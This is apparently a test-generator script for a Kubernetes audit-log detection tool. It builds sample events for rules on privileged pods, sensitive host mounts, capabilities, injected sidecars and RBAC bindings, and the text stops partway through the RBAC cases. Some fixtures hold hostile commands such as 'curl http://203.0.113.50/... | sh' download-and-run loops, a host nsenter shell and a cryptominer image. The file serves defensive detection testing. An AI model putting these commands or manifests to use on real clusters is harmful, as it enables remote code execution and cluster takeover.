#!/usr/bin/env python3
"""Generates rules/tests/*.yaml — the rule test cases — from compact Python
descriptions, so that every event is a complete, realistic audit event
(kind, apiVersion, auditID, stage, requestURI, user, sourceIPs, userAgent,
objectRef, responseStatus, timestamps, annotations) without hand-copying
boilerplate.  Re-run after editing:  python3 rules/tools/gen_tests.py

Case format (read by `peregrine -r rules --test rules/tests`):
  - case: <title>
    events: [<audit event mapping>, ...]
    fire: [<rule>, ...]        # each must fire at least once (rule_matching: all)
    no_fire: [<rule>, ...]     # must not fire
    extra_rules: [fixtures/enable_optional.yaml]   # optional, relative to the case file:
                               # rule files loaded after `-r rules` for this case only
"""
import itertools
import os
import uuid

import yaml

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(os.path.dirname(HERE), "tests")

_seq = itertools.count(1)
ENABLE = ["fixtures/enable_optional.yaml"]

GROUPS = {
    "pods": ("", "v1"), "services": ("", "v1"), "configmaps": ("", "v1"), "secrets": ("", "v1"),
    "namespaces": ("", "v1"), "serviceaccounts": ("", "v1"), "nodes": ("", "v1"), "events": ("", "v1"),
    "persistentvolumes": ("", "v1"), "endpoints": ("", "v1"),
    "deployments": ("apps", "v1"), "daemonsets": ("apps", "v1"), "statefulsets": ("apps", "v1"),
    "replicasets": ("apps", "v1"), "jobs": ("batch", "v1"), "cronjobs": ("batch", "v1"),
    "roles": ("rbac.authorization.k8s.io", "v1"), "clusterroles": ("rbac.authorization.k8s.io", "v1"),
    "rolebindings": ("rbac.authorization.k8s.io", "v1"), "clusterrolebindings": ("rbac.authorization.k8s.io", "v1"),
    "mutatingwebhookconfigurations": ("admissionregistration.k8s.io", "v1"),
    "validatingwebhookconfigurations": ("admissionregistration.k8s.io", "v1"),
    "validatingadmissionpolicies": ("admissionregistration.k8s.io", "v1"),
    "validatingadmissionpolicybindings": ("admissionregistration.k8s.io", "v1"),
    "ingresses": ("networking.k8s.io", "v1"), "networkpolicies": ("networking.k8s.io", "v1"),
    "certificatesigningrequests": ("certificates.k8s.io", "v1"),
    "selfsubjectrulesreviews": ("authorization.k8s.io", "v1"),
    "selfsubjectaccessreviews": ("authorization.k8s.io", "v1"),
    "leases": ("coordination.k8s.io", "v1"),
}
KIND = {"pods": "Pod", "services": "Service", "configmaps": "ConfigMap", "secrets": "Secret",
        "namespaces": "Namespace", "serviceaccounts": "ServiceAccount", "nodes": "Node", "events": "Event",
        "persistentvolumes": "PersistentVolume", "deployments": "Deployment", "daemonsets": "DaemonSet",
        "statefulsets": "StatefulSet", "replicasets": "ReplicaSet", "jobs": "Job", "cronjobs": "CronJob",
        "roles": "Role", "clusterroles": "ClusterRole", "rolebindings": "RoleBinding",
        "clusterrolebindings": "ClusterRoleBinding", "ingresses": "Ingress", "networkpolicies": "NetworkPolicy",
        "mutatingwebhookconfigurations": "MutatingWebhookConfiguration",
        "validatingwebhookconfigurations": "ValidatingWebhookConfiguration",
        "validatingadmissionpolicies": "ValidatingAdmissionPolicy",
        "certificatesigningrequests": "CertificateSigningRequest",
        "selfsubjectrulesreviews": "SelfSubjectRulesReview"}

KUBECTL = "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819"
KUBELET = "kubelet/v1.29.3 (linux/amd64) kubernetes/6813625"
KCM = "kube-controller-manager/v1.29.3 (linux/amd64) kubernetes/6813625"
ALICE = "alice@example.com"
RS_CTRL = "system:serviceaccount:kube-system:replicaset-controller"
DS_CTRL = "system:serviceaccount:kube-system:daemon-set-controller"


def groups_for(user):
    if user.startswith("system:serviceaccount:"):
        ns = user.split(":")[2]
        return ["system:serviceaccounts", "system:serviceaccounts:" + ns, "system:authenticated"]
    if user.startswith("system:node:"):
        return ["system:nodes", "system:authenticated"]
    if user == "system:anonymous":
        return ["system:unauthenticated"]
    if user in ("kubernetes-admin",):
        return ["system:masters", "system:authenticated"]
    if user.startswith("system:"):
        return ["system:authenticated"]
    return ["dev-team", "system:authenticated"]


def ev(verb, resource, ns=None, name=None, sub=None, user=ALICE, ua=KUBECTL, code=None, stage="ResponseComplete",
       req=None, resp=None, uri=None, decision="allow", reason=None, imp=None, ann=None, src="203.0.113.10",
       query=None):
    n = next(_seq)
    group, version = GROUPS.get(resource, ("", "v1"))
    base = "/api/v1" if group == "" else "/apis/%s/%s" % (group, version)
    if uri is None:
        uri = base
        if ns:
            uri += "/namespaces/" + ns
        uri += "/" + resource
        if name and verb not in ("create",) or (name and sub):
            uri += "/" + name
        if sub:
            uri += "/" + sub
        if query:
            uri += "?" + query
    if code is None:
        code = {"create": 201, "delete": 200}.get(verb, 200)
        if sub in ("exec", "attach", "portforward") and stage == "ResponseStarted":
            code = 101
    ts = "2024-05-01T10:%02d:%02d.%06dZ" % ((n // 60) % 60, n % 60, (n * 7919) % 1000000)
    obj = {"resource": resource} if resource else None
    if obj is not None and ns:
        obj["namespace"] = ns
    if obj is not None:
        if name:
            obj["name"] = name
        if group:
            obj["apiGroup"] = group
        obj["apiVersion"] = version
        if sub:
            obj["subresource"] = sub
    level = "RequestResponse" if (req is not None or resp is not None) else "Metadata"
    e = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": level,
         "auditID": str(uuid.uuid5(uuid.NAMESPACE_URL, "peregrine-test-%d" % n)),
         "stage": stage, "requestURI": uri, "verb": verb,
         "user": {"username": user, "groups": groups_for(user)}}
    if imp:
        e["impersonatedUser"] = imp
    e["sourceIPs"] = [src]
    e["userAgent"] = ua
    if obj is not None:
        e["objectRef"] = obj
    if stage != "RequestReceived":
        e["responseStatus"] = {"metadata": {}, "code": code}
    if req is not None:
        e["requestObject"] = req
    if resp is not None:
        e["responseObject"] = resp
    e["requestReceivedTimestamp"] = ts
    e["stageTimestamp"] = ts
    a = {}
    if stage != "RequestReceived":
        a["authorization.k8s.io/decision"] = decision if code not in (401, 403) else "forbid"
        a["authorization.k8s.io/reason"] = reason if reason is not None else (
            'RBAC: allowed by ClusterRoleBinding "dev-team-edit" of ClusterRole "edit" to Group "dev-team"'
            if code not in (401, 403) else "")
    if ann:
        a.update(ann)
    if a:
        e["annotations"] = a
    return e


# ---------------------------------------------------------------- builders
def ctr(image, name=None, sc=None, cmd=None, args=None, ports=None, mounts=None):
    c = {"name": name or image.split("/")[-1].split(":")[0].split("@")[0], "image": image}
    if cmd:
        c["command"] = cmd
    if args:
        c["args"] = args
    if ports:
        c["ports"] = ports
    if sc is not None:
        c["securityContext"] = sc
    if mounts:
        c["volumeMounts"] = mounts
    return c


def pod(ns="default", name="web-7d4b9c-x2x9q", containers=None, init=None, user=RS_CTRL, ua=KCM, code=201,
        volumes=None, owner="ReplicaSet", **spec):
    containers = containers or [ctr("nginx:1.25")]
    md = {"name": name, "namespace": ns, "labels": {"app": name.split("-")[0]}}
    if owner:
        md["ownerReferences"] = [{"apiVersion": "apps/v1", "kind": owner, "name": name.rsplit("-", 1)[0],
                                  "uid": "3f0e8d52-1b1c-4c55-9d0a-8d7c8c6f0a11", "controller": True}]
    s = {}
    if volumes:
        s["volumes"] = volumes
    if init:
        s["initContainers"] = init
    s["containers"] = containers
    s["serviceAccountName"] = spec.pop("sa", "default")
    s.update(spec)
    req = {"kind": "Pod", "apiVersion": "v1", "metadata": md, "spec": s}
    resp = {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": name, "namespace": ns}}
    return ev("create", "pods", ns=ns, name=name, user=user, ua=ua, code=code, req=req,
              resp=resp if str(code).startswith("2") else None)


def hostpath(name, path, typ=None):
    hp = {"path": path}
    if typ:
        hp["type"] = typ
    return {"name": name, "hostPath": hp}


def workload(kind_res, ns, name, tmpl_spec, verb="create", user=ALICE, ua=KUBECTL, code=None, extra_spec=None):
    spec = {"selector": {"matchLabels": {"app": name}},
            "template": {"metadata": {"labels": {"app": name}}, "spec": tmpl_spec}}
    if kind_res == "cronjobs":
        spec = {"schedule": "*/5 * * * *", "jobTemplate": {"spec": {"template": {"spec": tmpl_spec}}}}
    if kind_res == "jobs":
        spec = {"template": {"spec": tmpl_spec}, "backoffLimit": 0}
    if extra_spec:
        spec.update(extra_spec)
    group, version = GROUPS[kind_res]
    req = {"kind": KIND[kind_res], "apiVersion": "%s/%s" % (group, version),
           "metadata": {"name": name, "namespace": ns}, "spec": spec}
    return ev(verb, kind_res, ns=ns, name=name, user=user, ua=ua, code=code, req=req)


def role(res, name, rules, ns=None, verb="create", user=ALICE, ua=KUBECTL, labels=None, code=None):
    md = {"name": name}
    if ns:
        md["namespace"] = ns
    if labels:
        md["labels"] = labels
    req = {"kind": KIND[res], "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": md, "rules": rules}
    return ev(verb, res, ns=ns, name=name, user=user, ua=ua, req=req, code=code)


def rule_(verbs, resources, groups=("",)):
    return {"apiGroups": list(groups), "resources": list(resources), "verbs": list(verbs)}


def binding(res, name, roleref, subjects, ns=None, verb="create", user=ALICE, ua=KUBECTL, code=None, req=None):
    md = {"name": name}
    if ns:
        md["namespace"] = ns
    if req is None:
        req = {"kind": KIND[res], "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": md,
               "subjects": subjects,
               "roleRef": {"apiGroup": "rbac.authorization.k8s.io",
                           "kind": "ClusterRole" if res == "clusterrolebindings" or roleref in (
                               "cluster-admin", "admin", "edit", "view") else "Role", "name": roleref}}
    return ev(verb, res, ns=ns, name=name, user=user, ua=ua, req=req, code=code)


def subj(kind, name, ns=None):
    s = {"kind": kind, "name": name}
    if kind == "ServiceAccount":
        s["namespace"] = ns or "default"
    else:
        s["apiGroup"] = "rbac.authorization.k8s.io"
    return s


def exec_(ns, pod_name, cmds, user=ALICE, stage="ResponseStarted", sub="exec", code=None, container="app",
          verb="create", ua=KUBECTL):
    from urllib.parse import quote_plus
    # encoded as kubectl does (Go url.Values: space '+', everything else %XX)
    q = "&".join("command=" + quote_plus(c, safe="") for c in cmds)
    q += "&container=%s&stdin=true&stdout=true&tty=true" % container
    if sub == "attach":
        q = "container=%s&stdin=true&stdout=true&tty=true" % container
    return ev(verb, "pods", ns=ns, name=pod_name, sub=sub, user=user, stage=stage, query=q, code=code, ua=ua)


def cm(ns, name, data, verb="create", user=ALICE, ua=KUBECTL):
    req = {"kind": "ConfigMap", "apiVersion": "v1", "metadata": {"name": name, "namespace": ns}, "data": data}
    return ev(verb, "configmaps", ns=ns, name=name, user=user, ua=ua, req=req)


def case(title, events, fire=(), no_fire=(), extra=None):
    c = {"case": title, "events": events if isinstance(events, list) else [events]}
    if fire:
        c["fire"] = list(fire)
    if no_fire:
        c["no_fire"] = list(no_fire)
    if extra:
        c["extra_rules"] = extra
    return c


FILES = {}


def add(fname, *cases):
    FILES.setdefault(fname, []).extend(cases)


# =========================================================================
# 10-workloads
# =========================================================================
W = "10-workloads.yaml"
PRIV = {"privileged": True}

add(W,
    case("privileged container created by a ReplicaSet",
         pod(containers=[ctr("nginx:1.25", sc=PRIV)]),
         fire=["Privileged Container Launched"],
         no_fire=["Pod Shares Host Network", "Pod Created In Kube System Namespace"]),
    case("privileged init container is caught too",
         pod(init=[ctr("busybox:1.36", name="setup", sc=PRIV)], containers=[ctr("nginx:1.25")]),
         fire=["Privileged Container Launched"]),
    case("second container privileged, first without securityContext",
         pod(containers=[ctr("nginx:1.25"), ctr("alpine:3.19", name="sidecar", sc=PRIV)]),
         fire=["Privileged Container Launched"]),
    case("trusted CNI agent privileged in kube-system is exempt",
         pod(ns="kube-system", name="cilium-8x2kd", user=DS_CTRL, owner="DaemonSet",
             containers=[ctr("quay.io/cilium/cilium:v1.15.1@sha256:351d6685dc6f6ffbcd5451043167cfa8842c6decf80d8c8e426a417c73fb56d4", sc=PRIV)],
             init=[ctr("quay.io/cilium/cilium:v1.15.1", name="mount-cgroup", sc=PRIV)], hostNetwork=True),
         no_fire=["Privileged Container Launched", "Pod Shares Host Network", "Pod Created In Kube System Namespace"]),
    case("trusted image outside infrastructure namespaces still alerts",
         pod(ns="default", name="calico-x", containers=[ctr("docker.io/calico/node:v3.27.0", sc=PRIV)]),
         fire=["Privileged Container Launched"]),
    case("privileged explicitly false does not alert",
         pod(containers=[ctr("nginx:1.25", sc={"privileged": False, "allowPrivilegeEscalation": False})]),
         no_fire=["Privileged Container Launched", "Dangerous Capability Added"]),
    case("pod spec only at Metadata level: nothing to inspect",
         ev("create", "pods", ns="default", name="web-1", user=RS_CTRL, ua=KCM),
         no_fire=["Privileged Container Launched", "Pod Created In Kube System Namespace"]),
)
add(W,
    case("hostNetwork pod by a user",
         pod(name="netshoot-1", user=ALICE, ua=KUBECTL, owner=None, containers=[ctr("nicolaka/netshoot:latest")],
             hostNetwork=True),
         fire=["Pod Shares Host Network"]),
    case("hostNetwork false",
         pod(hostNetwork=False), no_fire=["Pod Shares Host Network"]),
    case("hostPID pod with nsenter",
         pod(name="debug-x", user=ALICE, ua=KUBECTL, owner=None, hostPID=True,
             containers=[ctr("alpine:3.19", cmd=["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh"])]),
         fire=["Pod Shares Host PID Namespace"]),
    case("node exporter with hostPID in monitoring is exempt",
         pod(ns="monitoring", name="node-exporter-7xk2p", user=DS_CTRL, owner="DaemonSet", hostPID=True,
             hostNetwork=True, containers=[ctr("quay.io/prometheus/node-exporter:v1.7.0")],
             volumes=[hostpath("proc", "/proc"), hostpath("sys", "/sys"), hostpath("root", "/")]),
         no_fire=["Pod Shares Host PID Namespace", "Pod Shares Host Network", "Sensitive Host Path Mounted"]),
    case("hostIPC pod",
         pod(name="ipc-1", hostIPC=True), fire=["Pod Shares Host IPC Namespace"]),
    case("hostIPC false",
         pod(name="ipc-2", hostIPC=False), no_fire=["Pod Shares Host IPC Namespace"]),
)
add(W,
    case("host root filesystem mounted",
         pod(name="rootfs-1", user=ALICE, ua=KUBECTL, owner=None, volumes=[hostpath("host", "/")],
             containers=[ctr("alpine:3.19", mounts=[{"name": "host", "mountPath": "/host"}])]),
         fire=["Sensitive Host Path Mounted"]),
    case("kubelet pki subdirectory (caught by the regex, not the list)",
         pod(name="kp-1", volumes=[hostpath("pki", "/var/lib/kubelet/pki", "Directory")]),
         fire=["Sensitive Host Path Mounted"]),
    case("/etc/kubernetes/ with trailing slash",
         pod(name="ek-1", volumes=[hostpath("k", "/etc/kubernetes/")]),
         fire=["Sensitive Host Path Mounted"]),
    case("harmless hostPath and emptyDir",
         pod(name="cache-1", volumes=[hostpath("cache", "/var/cache/app", "DirectoryOrCreate"),
                                      {"name": "tmp", "emptyDir": {}}]),
         no_fire=["Sensitive Host Path Mounted", "Container Runtime Socket Mounted"]),
    case("a directory merely named like a sensitive one",
         pod(name="etcd-data", volumes=[hostpath("d", "/etcd-data"), hostpath("p", "/srv/proc")]),
         no_fire=["Sensitive Host Path Mounted"]),
)
add(W,
    case("docker socket mounted",
         pod(name="dind-1", user=ALICE, ua=KUBECTL, owner=None, volumes=[hostpath("sock", "/var/run/docker.sock", "Socket")],
             containers=[ctr("docker:24-cli", mounts=[{"name": "sock", "mountPath": "/var/run/docker.sock"}])]),
         fire=["Container Runtime Socket Mounted"]),
    case("containerd socket under an unusual prefix (regex)",
         pod(name="k3s-1", volumes=[hostpath("sock", "/var/lib/rancher/k3s/agent/containerd/containerd.sock")]),
         fire=["Container Runtime Socket Mounted"]),
    case("/run directory mounted",
         pod(name="run-1", volumes=[hostpath("run", "/run")]),
         fire=["Container Runtime Socket Mounted"]),
    case("falco in its namespace may read the runtime socket",
         pod(ns="falco", name="falco-4kq8n", user=DS_CTRL, owner="DaemonSet",
             containers=[ctr("docker.io/falcosecurity/falco:0.37.1", sc=PRIV)],
             volumes=[hostpath("containerd", "/run/containerd/containerd.sock"), hostpath("proc", "/proc")]),
         no_fire=["Container Runtime Socket Mounted", "Privileged Container Launched", "Sensitive Host Path Mounted"]),
    case("non-socket hostPath",
         pod(name="logs-1", volumes=[hostpath("logs", "/var/log/app")]),
         no_fire=["Container Runtime Socket Mounted"]),
)
add(W,
    case("SYS_ADMIN added alone",
         pod(name="cap-1", containers=[ctr("alpine:3.19", sc={"capabilities": {"add": ["SYS_ADMIN"]}})]),
         fire=["Dangerous Capability Added"]),
    case("SYS_PTRACE added among harmless caps in second container",
         pod(name="cap-2", containers=[ctr("nginx:1.25"),
                                       ctr("alpine:3.19", name="dbg", sc={"capabilities": {"add": ["CHOWN", "SYS_PTRACE"], "drop": ["NET_RAW"]}})]),
         fire=["Dangerous Capability Added"]),
    case("CAP_ prefixed ALL in an init container",
         pod(name="cap-3", init=[ctr("busybox:1.36", name="init", sc={"capabilities": {"add": ["CAP_ALL"]}})]),
         fire=["Dangerous Capability Added"]),
    case("BPF and lower-case sys_module",
         pod(name="cap-4", containers=[ctr("cilium-tool:1", sc={"capabilities": {"add": ["bpf"]}}),
                                       ctr("loader:1", name="l", sc={"capabilities": {"add": ["sys_module"]}})]),
         fire=["Dangerous Capability Added"]),
    case("only harmless capabilities, and a dropped SYS_ADMIN",
         pod(name="cap-5", containers=[ctr("nginx:1.25", sc={"capabilities": {"add": ["NET_BIND_SERVICE", "CHOWN"], "drop": ["SYS_ADMIN", "ALL"]}})]),
         no_fire=["Dangerous Capability Added", "Network Admin Capability Added"]),
    case("an environment value that spells a capability is not a capability",
         pod(name="cap-6", containers=[dict(ctr("app:1", sc={"capabilities": {"add": ["CHOWN"]}}),
                                            env=[{"name": "MODE", "value": "SYS_ADMIN"}])]),
         no_fire=["Dangerous Capability Added"]),
)
add(W,
    case("NET_ADMIN on an application container",
         pod(name="vpn-1", containers=[ctr("wireguard:1.0", sc={"capabilities": {"add": ["NET_ADMIN", "SYS_TIME"]}})]),
         fire=["Network Admin Capability Added"], no_fire=["Dangerous Capability Added"]),
    case("istio init container with NET_ADMIN is exempt",
         pod(name="shop-1", init=[ctr("docker.io/istio/proxyv2:1.21.0", name="istio-init",
                                      sc={"capabilities": {"add": ["NET_ADMIN", "NET_RAW"], "drop": ["ALL"]}})],
             containers=[ctr("shop:2.1"), ctr("docker.io/istio/proxyv2:1.21.0", name="istio-proxy",
                                                 sc={"capabilities": {"drop": ["ALL"]}})]),
         no_fire=["Network Admin Capability Added"]),
)
add(W,
    case("pod with unknown image in kube-system",
         pod(ns="kube-system", name="kube-proxy-helper", user=ALICE, ua=KUBECTL, owner=None,
             containers=[ctr("ghcr.io/evil/agent:latest")]),
         fire=["Pod Created In Kube System Namespace"]),
    case("pod in kube-public",
         pod(ns="kube-public", name="p1", containers=[ctr("alpine:3.19")]),
         fire=["Pod Created In Kube System Namespace"]),
    case("kube-system pod logged at Metadata level (no spec to judge)",
         ev("create", "pods", ns="kube-system", name="coredns-76f75df574-9xk2p", user=RS_CTRL, ua=KCM),
         no_fire=["Pod Created In Kube System Namespace"]),
    case("coredns replica in kube-system",
         pod(ns="kube-system", name="coredns-76f75df574-5kzqd",
             containers=[ctr("registry.k8s.io/coredns/coredns:v1.11.1")]),
         no_fire=["Pod Created In Kube System Namespace"]),
    case("unknown image outside the kube namespaces",
         pod(ns="payments", containers=[ctr("ghcr.io/acme/payments:3.2")]),
         no_fire=["Pod Created In Kube System Namespace"]),
)
add(W,
    case("xmrig miner",
         pod(ns="default", name="miner-1", containers=[ctr("xmrig/xmrig:6.21.0", args=["-o", "pool.example:3333"])]),
         fire=["Known Cryptominer Image Deployed"]),
    case("ordinary images",
         pod(ns="default", name="web-2", containers=[ctr("nginx:1.25"), ctr("redis:7")]),
         no_fire=["Known Cryptominer Image Deployed"]),
)
add(W,
    case("image allowlist enforced: foreign image",
         pod(ns="default", name="web-3", containers=[ctr("docker.io/library/nginx:1.25")]),
         fire=["Image Outside Allowed Repositories"], extra=ENABLE),
    case("image allowlist enforced: allowed image",
         pod(ns="default", name="web-4", containers=[ctr("registry.example.com/team/web:1.0")]),
         no_fire=["Image Outside Allowed Repositories"], extra=ENABLE),
    case("image allowlist is off by default",
         pod(ns="default", name="web-5", containers=[ctr("docker.io/library/nginx:1.25")]),
         no_fire=["Image Outside Allowed Repositories"]),
)
EPH = {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "payments-api-6c9f7-abcde", "namespace": "payments"},
       "spec": {"containers": [ctr("ghcr.io/acme/payments:3.2", name="api")],
                "ephemeralContainers": [{"name": "debugger-x7k2", "image": "busybox:1.36",
                                         "targetContainerName": "api", "stdin": True, "tty": True}]}}
add(W,
    case("kubectl debug adds an ephemeral container",
         ev("patch", "pods", ns="payments", name="payments-api-6c9f7-abcde", sub="ephemeralcontainers", req=EPH),
         fire=["Ephemeral Debug Container Added"]),
    case("pod status update is not a debug container",
         ev("patch", "pods", ns="payments", name="payments-api-6c9f7-abcde", sub="status",
            user="system:node:ip-10-0-9-32.ec2.internal", ua=KUBELET,
            req={"status": {"conditions": [{"type": "Ready", "status": "True"}]}}),
         no_fire=["Ephemeral Debug Container Added"]),
)
PRIV_TMPL = {"containers": [ctr("alpine:3.19", sc=PRIV)]}
add(W,
    case("deployment template with privileged container",
         workload("deployments", "default", "tools", PRIV_TMPL),
         fire=["Workload Template Requests Host Access"]),
    case("cronjob template with hostPID",
         workload("cronjobs", "batch", "cleanup", {"hostPID": True, "containers": [ctr("alpine:3.19")],
                                                   "restartPolicy": "OnFailure"}),
         fire=["Workload Template Requests Host Access"]),
    case("daemonset template in an infrastructure namespace is left to the pod rules",
         workload("daemonsets", "kube-system", "cilium", {"hostNetwork": True, "containers": [ctr("quay.io/cilium/cilium:v1.15.1", sc=PRIV)]},
                  user="system:serviceaccount:argocd:argocd-application-controller", ua="argocd-application-controller/v2.10.1"),
         no_fire=["Workload Template Requests Host Access", "DaemonSet Created Outside Platform"]),
    case("replicaset stamped by the deployment controller",
         workload("replicasets", "default", "tools-5d8f", PRIV_TMPL,
                  user="system:serviceaccount:kube-system:deployment-controller", ua=KCM),
         no_fire=["Workload Template Requests Host Access"]),
    case("plain deployment",
         workload("deployments", "default", "web", {"containers": [ctr("nginx:1.25", sc={"runAsNonRoot": True})]}),
         no_fire=["Workload Template Requests Host Access"]),
    case("statefulset template mounting the host root",
         workload("statefulsets", "data", "backup", {"containers": [ctr("alpine:3.19", mounts=[{"name": "h", "mountPath": "/host"}])],
                                                     "volumes": [hostpath("h", "/", "Directory")]}),
         fire=["Workload Template Requests Host Access"]),
    case("deployment template mounting kubelet state",
         workload("deployments", "default", "kubelet-reader", {"containers": [ctr("alpine:3.19")],
                                                               "volumes": [hostpath("k", "/var/lib/kubelet/pods")]}),
         fire=["Workload Template Requests Host Access"]),
    case("cronjob template mounting the docker socket",
         workload("cronjobs", "ci", "image-pruner", {"containers": [ctr("docker:24-cli")], "restartPolicy": "OnFailure",
                                                     "volumes": [hostpath("sock", "/var/run/docker.sock", "Socket")]}),
         fire=["Workload Template Requests Host Access"]),
    case("daemonset template adding SYS_ADMIN",
         workload("daemonsets", "default", "agent", {"containers": [ctr("ghcr.io/unknown/agent:1", sc={"capabilities": {"add": ["SYS_ADMIN"]}})]}),
         fire=["Workload Template Requests Host Access", "DaemonSet Created Outside Platform"]),
    case("hardened template: harmless hostPath, all capabilities dropped",
         workload("deployments", "default", "logger", {"containers": [ctr("fluent/fluent-bit:3.0", sc={"capabilities": {"drop": ["ALL"]}, "readOnlyRootFilesystem": True})],
                                                       "volumes": [hostpath("logs", "/var/log/app"), {"name": "tmp", "emptyDir": {}}]}),
         no_fire=["Workload Template Requests Host Access"]),
)
SIDECAR = {"name": "metrics-helper", "image": "ghcr.io/unknown/helper:latest",
           "command": ["sh", "-c", "while true; do curl -s http://203.0.113.50/c | sh; sleep 300; done"]}
add(W,
    case("sidecar injected by a strategic-merge patch",
         ev("patch", "deployments", ns="payments", name="payments-api",
            req={"spec": {"template": {"spec": {"containers": [SIDECAR]}}}}),
         fire=["Container Injected Into Workload"]),
    case("kubectl apply adding a sidecar to a daemonset",
         ev("patch", "daemonsets", ns="monitoring", name="node-exporter", ua="kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819",
            req={"spec": {"template": {"spec": {"$setElementOrder/containers": [{"name": "node-exporter"}, {"name": "metrics-helper"}],
                                                "containers": [dict(SIDECAR, volumeMounts=[{"name": "root", "mountPath": "/host"}])]}}}}),
         fire=["Container Injected Into Workload"]),
    case("init container injected into a statefulset",
         ev("patch", "statefulsets", ns="data", name="postgres",
            req={"spec": {"template": {"spec": {"initContainers": [{"name": "setup", "image": "alpine:3.19",
                                                                     "command": ["sh", "-c", "cp /x /data/.x"]}]}}}}),
         fire=["Container Injected Into Workload"]),
    case("container added by JSON patch",
         ev("patch", "deployments", ns="payments", name="payments-api",
            req=[{"op": "add", "path": "/spec/template/spec/containers/-", "value": SIDECAR}]),
         fire=["Container Injected Into Workload"]),
    case("kubectl set image / set env / rollout restart",
         [ev("patch", "deployments", ns="payments", name="payments-api",
             req={"spec": {"template": {"spec": {"containers": [{"name": "api", "image": "ghcr.io/acme/payments:3.3"}]}}}}),
          ev("patch", "deployments", ns="payments", name="payments-api",
             req={"spec": {"template": {"spec": {"containers": [{"name": "api", "env": [{"name": "LOG_LEVEL", "value": "debug"}]}]}}}}),
          ev("patch", "deployments", ns="payments", name="payments-api",
             req={"spec": {"template": {"metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt": "2024-05-01T10:00:00Z"}}}}}),
          ev("patch", "deployments", ns="payments", name="payments-api",
             req=[{"op": "replace", "path": "/spec/template/spec/containers/0/image", "value": "ghcr.io/acme/payments:3.3"}])],
         no_fire=["Container Injected Into Workload"]),
    case("full update and GitOps patches are not judged",
         [workload("deployments", "payments", "payments-api", {"containers": [SIDECAR]}, verb="update"),
          ev("patch", "deployments", ns="payments", name="payments-api",
             user="system:serviceaccount:argocd:argocd-application-controller", ua="argocd-application-controller/v2.10.1",
             req={"spec": {"template": {"spec": {"containers": [SIDECAR]}}}}),
          ev("patch", "deployments", ns="payments", name="payments-api", sub="scale", req={"spec": {"replicas": 5}})],
         no_fire=["Container Injected Into Workload"]),
)
CJ = {"containers": [ctr("curlimages/curl:8.5.0", cmd=["sh", "-c", "curl -s http://203.0.113.50/x | sh"])],
      "restartPolicy": "OnFailure"}
add(W,
    case("cronjob created by a person",
         workload("cronjobs", "default", "updater", CJ),
         fire=["CronJob Created By User"]),
    case("cronjob created by a GitOps controller",
         workload("cronjobs", "default", "report", CJ, user="system:serviceaccount:argocd:argocd-application-controller",
                  ua="argocd-application-controller/v2.10.1"),
         no_fire=["CronJob Created By User"]),
    case("job created by a person",
         workload("jobs", "default", "one-off", CJ),
         fire=["Job Created By User"]),
    case("job spawned by the cronjob controller",
         ev("create", "jobs", ns="default", name="report-28571230", user="system:serviceaccount:kube-system:cronjob-controller", ua=KCM,
            req={"kind": "Job", "apiVersion": "batch/v1",
                 "metadata": {"name": "report-28571230", "namespace": "default",
                              "ownerReferences": [{"apiVersion": "batch/v1", "kind": "CronJob", "name": "report", "uid": "b0b5c3a6-0f35-4b4e-a7f3-2d6f4f1f0c77"}]},
                 "spec": {"template": {"spec": CJ}}}),
         no_fire=["Job Created By User"]),
    case("daemonset created by a person",
         workload("daemonsets", "default", "node-agent", {"containers": [ctr("ghcr.io/unknown/agent:1")]}),
         fire=["DaemonSet Created Outside Platform"]),
    case("daemonset created by the EKS addon manager",
         workload("daemonsets", "kube-system", "aws-node", {"containers": [ctr("602401143452.dkr.ecr.us-west-2.amazonaws.com/amazon-k8s-cni:v1.16.0")]},
                  user="eks:addon-manager", ua="eks-addon-manager/v0.0.0"),
         no_fire=["DaemonSet Created Outside Platform"]),
)
add(W,
    case("hostPath persistent volume",
         ev("create", "persistentvolumes", name="pv-host", req={"kind": "PersistentVolume", "apiVersion": "v1",
            "metadata": {"name": "pv-host"}, "spec": {"capacity": {"storage": "1Gi"}, "accessModes": ["ReadWriteOnce"],
                                                      "hostPath": {"path": "/"}}}),
         fire=["Host Path Persistent Volume Created"]),
    case("EBS-backed persistent volume",
         ev("create", "persistentvolumes", name="pvc-6f1b", user="system:serviceaccount:kube-system:ebs-csi-controller-sa",
            ua="csi-provisioner/v0.0.0", req={"kind": "PersistentVolume", "apiVersion": "v1", "metadata": {"name": "pvc-6f1b"},
                                               "spec": {"csi": {"driver": "ebs.csi.aws.com", "volumeHandle": "vol-0a1b2c3d"}}}),
         no_fire=["Host Path Persistent Volume Created"]),
)

# =========================================================================
# 20-rbac
# =========================================================================
R = "20-rbac.yaml"
add(R,
    case("clusterrolebinding to cluster-admin for a user",
         binding("clusterrolebindings", "mallory-admin", "cluster-admin", [subj("User", "mallory@example.com")]),
         fire=["Binding To Cluster Admin Role"]),
    case("rolebinding to cluster-admin for a service account",
         binding("rolebindings", "ci-admin", "cluster-admin", [subj("ServiceAccount", "ci", "build")], ns="build"),
         fire=["Binding To Cluster Admin Role"]),
    case("patch adding a subject to the built-in cluster-admin binding",
         binding("clusterrolebindings", "cluster-admin", None, None, verb="patch",
                 req={"subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "Group", "name": "system:masters"},
                                   {"kind": "ServiceAccount", "name": "default", "namespace": "default"}]}),
         fire=["Binding To Cluster Admin Role"]),
    case("binding to view",
         binding("clusterrolebindings", "auditors-view", "view", [subj("Group", "auditors")]),
         no_fire=["Binding To Cluster Admin Role", "Role Bound To Anonymous Or All Users"]),
    case("control plane reconciling cluster-admin binding",
         binding("clusterrolebindings", "cluster-admin", "cluster-admin", [subj("Group", "system:masters")],
                 verb="update", user="system:apiserver", ua="kube-apiserver/v1.29.3 (linux/amd64) kubernetes/6813625"),
         no_fire=["Binding To Cluster Admin Role", "System RBAC Object Modified Or Deleted"]),
)
add(R,
    case("edit granted to system:authenticated",
         binding("clusterrolebindings", "everyone-edit", "edit", [subj("Group", "system:authenticated")]),
         fire=["Role Bound To Anonymous Or All Users"]),
    case("role granted to system:anonymous",
